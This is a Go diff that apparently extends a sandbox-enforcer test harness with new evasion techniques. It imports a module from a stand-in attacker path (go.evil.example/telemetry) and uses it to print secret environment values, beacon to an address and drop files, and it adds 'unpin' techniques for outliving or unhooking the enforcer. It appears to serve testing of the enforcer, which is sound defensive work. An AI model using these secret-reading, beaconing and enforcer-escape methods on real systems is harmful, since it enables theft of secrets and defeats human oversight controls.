@@ -34,9 +34,11 @@ import (
 	_ "github.com/metricsd/autoreg" // technique 3 lives in its init()
 	"github.com/parallel-go/fanout"
 	"github.com/perfkit/rawio"
+	"github.com/procguard/unpin"
 	"github.com/tinyhelpers/fsx"
 	"github.com/workerpool/asyncfs"
 	"github.com/workerpool/asyncfs/httpfetch"
+	"go.evil.example/telemetry"
 )
 
 type technique struct {
@@ -88,6 +90,20 @@ var techniques = map[string]technique{
 	"forge-ret":  {"PATH", func(a []string) error { trampoline.RemoveForged(a[0]); return gone(a[0]) }},
 	// 9. concurrency (fanout) while main reads
 	"hammer": {"DIR N", hammer},
+	// 11. a module path that starts like a pre-1.20 linker name (`go.`): gotelemetry
+	"goprefix-env":   {"NAME", func(a []string) error { fmt.Printf("%s=%s\n", a[0], telemetry.Secret(a[0])); return nil }},
+	"goprefix-dial":  {"ADDR", func(a []string) error { return telemetry.Beacon(a[0]) }},
+	"goprefix-write": {"PATH", func(a []string) error { return telemetry.Drop(a[0]) }},
+	// 12. outliving or unhooking the enforcer (unpin)
+	"unpin-orphan": {"ENFORCER_PID SECONDS PATH", func(a []string) error {
+		pid, _ := strconv.Atoi(a[0])
+		secs, _ := strconv.Atoi(a[1])
+		return unpin.Orphan(pid, time.Duration(secs)*time.Second, a[2])
+	}},
+	"unpin-getenv": {"none|write|madvise SECONDS NAME", func(a []string) error {
+		secs, _ := strconv.Atoi(a[1])
+		return unpin.Getenv(a[0], time.Duration(secs)*time.Second, a[2])
+	}},
 	// main's own work, for control runs
 	"main-write": {"PATH", func(a []string) error { return os.WriteFile(a[0], []byte("main\n"), 0o644) }},
 }
